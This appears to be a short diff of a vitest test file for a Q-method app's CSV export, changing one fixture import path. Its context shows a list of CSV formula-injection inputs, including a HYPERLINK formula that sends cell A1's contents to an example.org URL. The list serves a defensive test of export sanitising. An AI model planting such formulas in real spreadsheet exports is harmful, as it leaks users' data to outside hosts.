@@ -2,7 +2,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { csvCell, toCsv } from '../../../server/exports/csv.js';
 import { parseCsv } from '../../../src/lib/qmethod/io/csv.js';
 import { buildTestApp } from '../../helpers/build-app.js';
-import { as, CODES, createDialogueFixture, type Fixture } from './dialogue-fixture.js';
+import { as, CODES, createDialogueFixture, type Fixture } from '../dialogue/dialogue-fixture.js';
 
 // Issue 11 item 10: no CSV the app writes may start a cell with a spreadsheet formula.
 const FORMULAS = ['=HYPERLINK("https://example.org/?"&A1,"klik")', '+31 6 1234', '-1+1', '@SUM(A1:A9)', '\t=1+1', '\r=1'];
